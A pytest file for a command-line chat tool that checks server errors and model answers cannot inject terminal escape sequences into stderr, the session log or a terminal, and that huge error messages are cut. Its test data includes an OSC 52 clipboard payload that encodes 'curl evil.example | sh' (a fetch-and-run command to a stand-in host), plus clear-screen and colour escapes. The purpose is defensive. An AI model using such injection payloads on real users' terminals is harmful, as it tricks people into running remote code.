"""What a server says cannot drive the terminal, in ``-p`` as in the REPL, nor fill the session (issue 42, item 6).
Clipboard writes (OSC 52), clear-screen and colour escapes in an error body or an ``error`` event were printed
raw on stderr, and a 2 MB error message was printed whole and stored whole in the session. Through the real
CLI: stderr, the session file and, in a terminal, the answer carry no escape sequence, and the text is bounded."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from capped_cli import PACKAGE_ROOT, run_capped
from fakes.raw_events import RawAnswer, RawEventServer

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # puts "curl evil.example | sh" on the clipboard
CLEAR = "\x1b[2J\x1b[H"
RED = "\x1b[31m"
HOSTILE = f"{CLIPBOARD}{CLEAR}{RED}quota exceeded\x1b[0m\x9b2J\rbell\x07"
CONTROLS = ("\x1b", "\x07", "\x9b", "\r")


@pytest.fixture()
def raw() -> Iterator[RawEventServer]:
    server = RawEventServer().start()
    yield server
    server.stop()


def _last_error(session: Path) -> str:
    entries = [json.loads(line) for line in session.read_text(encoding="utf-8").splitlines()]
    return str([e for e in entries if e.get("type") == "message"][-1]["message"]["errorMessage"])


def _chat_args(raw: RawEventServer, session: Path) -> list[str]:
    return ["--model", "openai/attacker", "--api-base", raw.base_url, "--api-key", "sk-test", "--context-window",
            "32000", "--session", str(session), "-p", "hi"]


def test_escapes_in_an_error_body_reach_neither_stderr_nor_the_session(tmp_path: Path, raw: RawEventServer) -> None:
    raw.enqueue(RawAnswer(status=400, body=json.dumps({"error": {"message": HOSTILE, "type": "invalid_request"}})))
    session = tmp_path / "s.jsonl"
    done = run_capped(tmp_path, _chat_args(raw, session), cwd=tmp_path)
    assert done.returncode == 1
    assert done.stderr == "pi-compact: 400 quota exceeded2Jbell (invalid_request)\n"  # (a C1 CSI's "2J" is text)
    stored = _last_error(session)
    assert "quota exceeded" in stored and not any(c in stored for c in CONTROLS)


def test_a_two_megabyte_error_event_is_cut_on_screen_and_in_the_session(tmp_path: Path, raw: RawEventServer) -> None:
    message = HOSTILE + "x" * 2_000_000
    raw.enqueue(RawAnswer([{"type": "response.created", "response": {"id": "resp_1"}},
                           {"type": "error", "code": "server_error", "message": message}]))
    session = tmp_path / "s.jsonl"
    done = run_capped(tmp_path, ["--model", "openai/gpt-4.1", "--api-key", "sk-test", "--session", str(session),
                                 "-p", "hi"], cwd=tmp_path, models={"providers": {"openai": {"baseUrl": raw.base_url}}})
    assert done.returncode == 1
    assert not any(c in done.stderr for c in CONTROLS)
    assert len(done.stderr) < 4200 and done.stderr.startswith("pi-compact: ") and "quota exceeded" in done.stderr
    assert done.stderr.rstrip().endswith(f"… (cut at 4,000 of {len('500 Error Code server_error: ' + message):,} "
                                         "characters)")
    stored = _last_error(session)
    assert len(stored) < 4100 and not any(c in stored for c in CONTROLS)
    assert session.stat().st_size < 20_000


def _in_terminal(tmp_path: Path, args: list[str]) -> bytes:
    """The CLI with a pseudo-terminal as stdout and stderr: every byte it wrote there."""
    agent = tmp_path / "home" / ".pi" / "agent"
    agent.mkdir(parents=True, exist_ok=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PI_CODING_AGENT", "OPENAI_", "PYTHON"))}
    env.update(HOME=str(tmp_path / "home"), PI_CODING_AGENT_DIR=str(agent), PYTHONPATH=PACKAGE_ROOT,
               LITELLM_LOCAL_MODEL_COST_MAP="True", LITELLM_OFFLINE_MODE="true", TERM="xterm-256color")
    main, child = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "pi_compact.cli", *args], cwd=tmp_path, env=env,
                               stdin=subprocess.DEVNULL, stdout=child, stderr=child)
    os.close(child)
    out = bytearray()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        ready, _, _ = select.select([main], [], [], 0.2)
        if ready:
            try:
                data = os.read(main, 65536)
            except OSError:  # the child closed the terminal
                break
            if not data:
                break
            out += data
        elif process.poll() is not None:
            break
    process.wait(10)
    os.close(main)
    return bytes(out)


def _answer(text: str) -> list[dict[str, Any]]:
    chunk = {"id": "c", "object": "chat.completion.chunk", "model": "m"}
    return [{**chunk, "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]},
            {**chunk, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]


def test_in_a_terminal_the_printed_answer_cannot_drive_it(tmp_path: Path, raw: RawEventServer) -> None:
    raw.enqueue(RawAnswer(_answer(f"Done.{CLIPBOARD}{CLEAR} All good.")))
    shown = _in_terminal(tmp_path, _chat_args(raw, tmp_path / "s.jsonl"))
    assert b"Done. All good." in shown, shown
    assert b"\x1b" not in shown and b"\x07" not in shown


def test_piped_the_printed_answer_is_the_models_text_exactly(tmp_path: Path, raw: RawEventServer) -> None:
    raw.enqueue(RawAnswer(_answer(f"Done.{RED}red")))
    done = run_capped(tmp_path, _chat_args(raw, tmp_path / "s.jsonl"), cwd=tmp_path)
    assert done.stdout == f"Done.{RED}red\n"
